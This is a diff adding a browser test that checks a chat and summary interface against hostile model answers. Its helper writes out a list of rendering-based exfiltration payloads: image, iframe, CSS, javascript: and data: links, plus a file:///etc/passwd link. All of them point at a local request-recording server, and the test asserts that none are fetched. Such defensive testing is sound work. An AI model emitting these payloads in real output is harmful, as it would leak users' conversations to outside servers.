@@ -449,3 +449,98 @@ def test_the_key_is_in_no_response_and_the_browser_holds_only_what_the_server_se
         other.screenshot(path=str(artifacts / "forged-browser-value.png"))
         visitor.close()
     ctx.close()
+
+
+def hostile_answer(evil: str) -> str:
+    """An answer that, rendered as the model wrote it, would make the browser fetch from `evil`
+    (the ways tests/test_render.py::HOSTILE lists, here as one text), and that cites a moment and
+    links a web page."""
+    return f"""
+
+Maria travels on [00:05]; the plan is [here](https://example.com/plan).
+
+![]({evil}/inline.png?q=the+conversation) ![ref][1] ![img][ref2]
+<img src="{evil}/img.png"> <IMG SRC={evil}/upper.png> <img srcset="{evil}/srcset.png 2x">
+<picture><source srcset="{evil}/picture.png"><img></picture> <svg><image href="{evil}/svg.png"/></svg>
+<iframe src="{evil}/iframe"></iframe> <video poster="{evil}/poster.png"></video> <audio src="{evil}/a.mp3" autoplay></audio>
+<link rel="stylesheet" href="{evil}/style.css"> <style>body {{ background: url({evil}/css.png) }}</style>
+<span style="background:url({evil}/span.png)">styled</span> <a href="javascript:fetch('{evil}/js')">js</a>
+[md js](javascript:fetch('{evil}/mdjs')) [data](data:text/html,<img src={evil}/data.png>) [file](file:///etc/passwd)
+<{evil}/autolink> mail@{evil.split('//')[1]} &#60;img src={evil}/entity.png&#62;
+[![nested]({evil}/nested.png)](https://example.com/nested) $$\\includegraphics{{{evil}/katex.png}}$$
+
+```mermaid
+graph TD; A-->B; <img src="{evil}/mermaid.png">
+```
+
+[1]: {evil}/reference.png
+[ref2]: <{evil}/reference2.png>
+
+END-OF-ANSWER"""
+
+
+# The whole answer is in (Gradio labels each message with its text, whatever it renders).
+ANSWERED = ("() => [...document.querySelectorAll('#chatbot [data-testid=bot]')].at(-1)"
+            "?.getAttribute('aria-label')?.includes('END-OF-ANSWER')")
+
+
+def test_an_answer_loads_nothing_and_links_only_moments_and_pages(chromium, player_app, fake_server, paragraphs_talk,
+                                                                 tmp_path, artifacts):
+    """Issue 21, finding 6: the model's answer (and summary) carries images, HTML and links of every
+    form pointing at a server that records requests; the browser makes none, in the chat as it
+    streams and when done, in the summary, and after a reload restores the conversation. The
+    citation still plays its moment; the web link opens in a new tab, without opener or referrer."""
+    from mediaserver import MediaServer
+
+    evil = MediaServer(tmp_path)
+    path, spoken = paragraphs_talk
+    page = open_page(chromium, player_app["url"])
+    asked = []
+    page.on("request", lambda r: asked.append(r.url))
+    fake_server.chat_suffix = hostile_answer(evil.url(""))
+    try:
+        process(page, path)
+        wait_ready(page)
+        # The summary streams the model's text as it comes (the hostile part too), then its bullets and chapters.
+        page.wait_for_function("() => document.querySelector('#summary')?.innerText.includes('Chapters')")
+        send(page, "Who will travel?")
+        page.wait_for_function(ANSWERED)
+    finally:
+        fake_server.chat_suffix = ""
+    page.wait_for_timeout(1500)  # anything the page would fetch, fetched
+    answer = page.locator("#chatbot .message.bot").last
+    for shown in (answer, page.locator("#summary")):
+        loading = shown.locator("img, picture, svg image, iframe, video, audio, link, style, [style*=url], .mermaid svg")
+        assert loading.count() == 0, loading.evaluate_all("els => els.map(e => e.outerHTML.slice(0, 300))")
+        hrefs = shown.locator("a[href]").evaluate_all("els => els.map(a => a.getAttribute('href'))")
+        assert all(h.startswith("#t=") or h.startswith("https://example.com/") or h.startswith(evil.url("/"))
+                   for h in hrefs), hrefs
+    assert "![](http" in answer.inner_text() and "<img src=" in answer.inner_text(), "shown as text"
+
+    web = answer.locator("a[href='https://example.com/plan']")
+    assert web.get_attribute("target") == "_blank"
+    assert {"noopener", "noreferrer"} <= set(web.get_attribute("rel").split())
+    page.context.route("https://example.com/**", lambda route: route.fulfill(body="<p>plan</p>",
+                                                                               content_type="text/html"))
+    with page.context.expect_page() as opened:
+        web.click()
+    tab = opened.value
+    tab.wait_for_load_state()
+    assert tab.evaluate("() => window.opener") is None and tab.evaluate("() => document.referrer") == ""
+    tab.close()
+
+    cite = answer.locator("a[href^='#t=']").first
+    cited = float(cite.get_attribute("href")[3:])
+    page.evaluate(f"() => {PLAYER}.pause()")
+    cite.click()
+    wait_position(page, cited)
+    page.screenshot(path=str(artifacts / "safe-answer.png"), full_page=True)
+
+    page.reload()  # the conversation comes back from the browser's storage
+    page.wait_for_function(ANSWERED)
+    page.wait_for_timeout(1500)
+    assert page.locator("#chatbot img, #chatbot iframe, #chatbot svg image").count() == 0
+    assert evil.hits == [], evil.hits
+    assert not [u for u in asked if u.startswith(evil.url(""))], asked
+    evil.stop()
+    page.context.close()
